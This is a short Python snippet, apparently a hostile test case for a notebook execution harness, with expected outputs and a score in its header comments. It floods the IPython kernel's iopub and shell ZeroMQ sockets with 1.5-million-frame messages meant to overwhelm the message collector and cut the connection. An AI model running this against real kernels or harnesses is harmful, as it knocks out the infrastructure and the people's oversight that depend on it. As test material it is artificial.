"""Sends messages of millions of parts: small on the way, large for who collects them.

Parts are counted as they come, and the connection is cut.
"""
# score: 100
# says: sent|came too fast|TimeLimit

# cell: before MLP
import zmq

kernel = get_ipython().kernel
ident = kernel._parent_ident["shell"]
for socket, start in (
    (kernel.iopub_thread.socket, [b"stream"]),
    (kernel.shell_stream.socket, ident),
):
    try:
        socket.send_multipart([*start, *[b""] * 1_500_000], zmq.NOBLOCK)
    except Exception:
        pass
print("sent")
